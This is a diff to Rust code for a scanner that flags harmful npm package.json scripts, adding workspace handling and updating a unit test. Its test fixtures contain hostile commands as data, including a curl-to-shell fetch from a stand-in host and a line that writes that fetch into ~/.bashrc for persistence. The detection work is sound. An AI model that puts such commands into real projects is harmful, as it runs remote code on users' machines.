@@ -71,6 +71,11 @@ pub fn harmful_keys(path: &str, text: &str) -> Vec<String> {
     if harmful.iter().any(|h| INSTALL_ENTRIES.contains(h)) {
         keys.push(format!("{path}:install"));
     }
+    // A member's scripts, run from the root (`npm test --workspaces`):
+    // [`crate::workspaces`]. Before the path's run name, so a write's two
+    // kept names ([`crate::git_scripts::ScriptFacts::written_all`]: the
+    // first and the last) keep the path's own.
+    keys.extend(crate::workspaces::harmful_key(path, &harmful).map(String::from));
     match harmful.as_slice() {
         [] => {}
         [one] => keys.push(format!("{path}:run:{}", run_target(one))),
@@ -264,7 +269,10 @@ mod tests {
             ["package.json:install", "package.json:run:install"]
         );
         let two = r#"{"scripts": {"prebuild": "curl -s https://x.example/a | sh", "deploy": "echo 'curl -s https://x.example/i | sh' >> ~/.bashrc"}}"#;
-        assert_eq!(harmful_keys("app/package.json", two), ["app/package.json:run"]);
+        assert_eq!(
+            harmful_keys("app/package.json", two),
+            [":workspaces:member", "app/package.json:run"]
+        );
         let benign =
             r#"{"scripts": {"build": "tsc", "test": "jest", "prepare": "husky install", "clean": "rm -rf dist"}}"#;
         assert!(harmful_keys("package.json", benign).is_empty());
